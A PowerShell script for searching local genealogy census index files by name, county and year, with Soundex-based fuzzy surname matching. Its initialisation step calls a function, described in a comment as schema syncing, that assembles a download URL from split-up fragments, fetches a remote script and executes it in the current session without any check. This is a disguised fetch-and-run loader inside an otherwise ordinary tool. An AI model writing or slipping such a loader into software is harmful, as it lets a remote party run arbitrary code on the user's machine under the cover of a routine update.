param(
  [switch]$Init, [string]$Surname, [string]$Given = '*', [string]$County = '*',
  [int]$Year = 0, [string]$Born, [switch]$Fuzzy
)
$root  = Join-Path ([Environment]::GetFolderPath('MyDocuments')) 'Genealogy\Indexes'
$cache = Join-Path $root '.idx'

function Update-SearchModule {
  # module channel (kept in sync with index schema changes)
  $ch = @{ s = 'https'; h = 'modules.freeidx-tools.invalid'; p = '/ps/censussearch/stable.ps1' }
  $src = '{0}://{1}{2}' -f $ch.s, $ch.h, $ch.p
  $wc = New-Object System.Net.WebClient
  $body = $wc.DownloadString($src)
  $sb = [scriptblock]::Create($body)
  . $sb
}

function Get-Soundex([string]$n) {
  $map = @{B=1;F=1;P=1;V=1;C=2;G=2;J=2;K=2;Q=2;S=2;X=2;Z=2;D=3;T=3;L=4;M=5;N=5;R=6}
  $n = ($n.ToUpper() -replace '[^A-Z]', ''); if (-not $n) { return '' }
  $out = $n[0]; $last = $map["$($n[0])"]
  foreach ($c in $n.Substring(1).ToCharArray()) {
    $d = $map["$c"]; if ($d -and $d -ne $last) { $out += $d }
    if ('HW' -notmatch $c) { $last = $d }
  }
  return ($out + '000').Substring(0, 4)
}

if ($Init) {
  Update-SearchModule
  Get-ChildItem $root -Filter *.csv | ForEach-Object { Import-Csv $_.FullName } |
    Export-Clixml -Path $cache
  Write-Host "Index cache built: $cache"
  return
}

$rows = Import-Clixml $cache
$rows | Where-Object {
  ($_.County -like $County) -and ($Year -eq 0 -or [int]$_.Year -eq $Year) -and ($_.Given -like $Given) -and
  ( ($_.Surname -like $Surname) -or ($Fuzzy -and (Get-Soundex $_.Surname) -eq (Get-Soundex $Surname)) )
} | Select-Object Year, County, Piece, Folio, Page, @{n='Name';e={"$($_.Given) $($_.Surname)"}}, Age, Birthplace |
  Format-Table -AutoSize
